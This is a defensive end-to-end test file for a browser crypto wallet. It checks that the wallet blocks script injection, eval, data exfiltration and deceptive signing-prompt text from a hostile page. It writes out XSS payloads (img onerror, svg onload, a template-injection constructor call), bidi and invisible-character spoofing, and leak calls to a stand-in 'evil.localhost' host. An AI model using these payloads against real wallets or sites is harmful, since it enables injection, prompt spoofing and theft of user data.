import type { Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { en as reviewWords } from '../../src/review/words/en.ts'
import { walletPopup } from '../journeys/walletPopup.ts'
import { type Asking, closed, type Scene, startScene } from './parts/startScene.ts'

// T5: a page sends the wallet texts that try to become code, or to look like something else on the wallet's own screen.

let scene: Scene
let evil: Page
let account: string
beforeAll(async () => {
  scene = await startScene()
  ;({ page: evil, account } = await scene.connected('evil.localhost'))
})
afterAll(() => scene?.close())

describe('the origin itself', () => {
  let wallet: Page
  beforeAll(async () => {
    wallet = await scene.visitor.open(scene.info.sites.wallet)
  })
  afterAll(async () => {
    await wallet.close()
    scene.visitor.complaints.take()
  })
  /** In a task of its own: code that DevTools evaluates directly may use `eval` whatever the policy says. */
  const attempt = (attack: string) =>
    wallet.evaluate(`new Promise((resolve) => setTimeout(async () => {
      try { resolve(await (async () => { ${attack} })()) } catch (error) { resolve(error.name) }
    }))`)

  test.each([
    ['markup', `document.body.innerHTML = '<img src=x onerror=alert(1)>'`],
    ['a document written', `document.write('<script>1</script>')`],
    ['a script with an address', `const s = document.createElement('script'); s.src = 'data:text/javascript,1'`],
    ['a script with a text', `const s = document.createElement('script'); s.text = '1'`],
    ['a document in a frame', `document.createElement('iframe').srcdoc = '<p>'`],
    ['a worker', `new Worker('data:text/javascript,1')`],
    ['a policy of its own', `trustedTypes.createPolicy('default', { createHTML: (html) => html })`],
  ])('attack: %s throws', async (_, attack) => {
    expect(await attempt(attack)).toBe('TypeError')
  })

  test.each([
    ['eval', `eval('1')`],
    ['a function made of text', `new Function('1')`],
  ])('attack: %s throws', async (_, attack) => {
    expect(await attempt(attack)).toBe('EvalError')
  })

  test('attack: an inline script and an inline handler do not run', async () => {
    const attack = `
      const s = document.createElement('script'); s.append('globalThis.hacked = 1'); document.body.append(s)
      const b = document.createElement('button'); b.setAttribute('onclick', 'globalThis.hacked = 1'); document.body.append(b); b.click()
      return typeof globalThis.hacked`
    expect(await attempt(attack)).not.toBe('number')
    expect(await wallet.evaluate('typeof globalThis.hacked')).toBe('undefined')
  })

  test.each([
    ['fetch', (url: string) => `await fetch('${url}')`],
    ['a picture', (url: string) => `const i = new Image(); i.src = '${url}'; await i.decode()`],
    ['a beacon', (url: string) => `navigator.sendBeacon('${url}', 'secret')`],
    [
      'a socket',
      (url: string) =>
        `await new Promise((resolve, reject) => { const s = new WebSocket('${url.replace('http', 'ws')}'); s.onerror = () => reject(new Error()); s.onopen = resolve })`,
    ],
    [
      'a form',
      (url: string) =>
        `const f = document.createElement('form'); f.action = '${url}'; document.body.append(f); f.submit(); await new Promise((r) => setTimeout(r, 100))`,
    ],
    [
      'a stylesheet',
      (url: string) =>
        `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${url}'; document.head.append(l); await new Promise((r) => { l.onerror = l.onload = r })`,
    ],
    [
      'a frame',
      (url: string) =>
        `const f = document.createElement('iframe'); f.src = '${url}'; document.body.append(f); await new Promise((r) => { f.onload = r })`,
    ],
  ])('attack: no data leaves by %s', async (way, attack) => {
    const path = `/leak/${encodeURIComponent(way)}`
    await attempt(attack(`${scene.pages.originOf('evil.localhost')}${path}`))
    expect(scene.pages.requests.filter(({ url }) => url.startsWith(path))).toEqual([])
  })
})

describe('what the user reads', () => {
  let asking: Asking
  afterEach(async () => {
    expect(await asking.popup.evaluate('typeof globalThis.hacked')).toBe('undefined')
    await walletPopup.press(asking.popup, 'Reject')
    await asking.heard
    await closed(asking.popup)
    // If any of it had been taken for code, the content security policy would have complained.
    expect(scene.visitor.complaints.take()).toEqual([])
  })

  const attacks = [
    '<img src=x onerror="globalThis.hacked=1">',
    '<script>globalThis.hacked=1</script>',
    '"><svg onload=globalThis.hacked=1>',
    '</pre><button>Confirm</button>',
    'javascript:globalThis.hacked=1',
    '{{constructor.constructor("globalThis.hacked=1")()}}',
    '&lt;b&gt;',
  ]

  test('attack: markup in a message is shown as text', async () => {
    const text = attacks.join('\n')
    asking = await scene.ask(evil, 'personal_sign', [text, account])
    expect(await asking.popup.getByRole('region', { name: reviewWords.text }).textContent()).toBe(text)
    expect(await asking.popup.getByRole('button', { name: reviewWords.confirm }).count()).toBe(1)
  })

  test('attack: markup in every text of typed data', async () => {
    const [image, script] = attacks as [string, string]
    const types = {
      EIP712Domain: [{ name: 'name', type: 'string' }],
      Order: [
        { name: 'note', type: 'string' },
        { name: 'more', type: 'string[]' },
      ],
    }
    const data = { types, primaryType: 'Order', domain: { name: image }, message: { note: script, more: attacks } }
    asking = await scene.ask(evil, 'eth_signTypedData_v4', [account, JSON.stringify(data)])
    const shown = await asking.popup.getByRole('region', { name: reviewWords.data }).textContent()
    for (const text of [image, script, ...attacks]) expect(shown).toContain(text)
  })

  test('attack: characters that reverse, hide or erase others are made visible and reported', async () => {
    const text = 'Pay 1 to \u202Eevil\u202C or\u200B\u2060 2\b3, hi\u{E0041}'
    asking = await scene.ask(evil, 'personal_sign', [text, account])
    expect(await asking.popup.getByRole('region', { name: reviewWords.text }).textContent()).toBe(
      'Pay 1 to ⟨U+202E⟩evil⟨U+202C⟩ or⟨U+200B⟩⟨U+2060⟩ 2⟨U+0008⟩3, hi⟨U+E0041⟩',
    )
    await asking.popup.getByText(reviewWords.warnings['hidden-characters']).waitFor()
  })

  test('attack: an endless text does not move the buttons', async () => {
    asking = await scene.ask(evil, 'personal_sign', ['\n'.repeat(2000) + 'W'.repeat(20_000), account])
    await asking.popup.getByRole('region', { name: reviewWords.text }).waitFor()
    for (const name of ['Confirm', 'Reject']) {
      const box = (await asking.popup.getByRole('button', { name, exact: true }).boundingBox())!
      expect(box.y + box.height).toBeLessThanOrEqual(640)
      expect(box.x + box.width).toBeLessThanOrEqual(420)
    }
  })
})
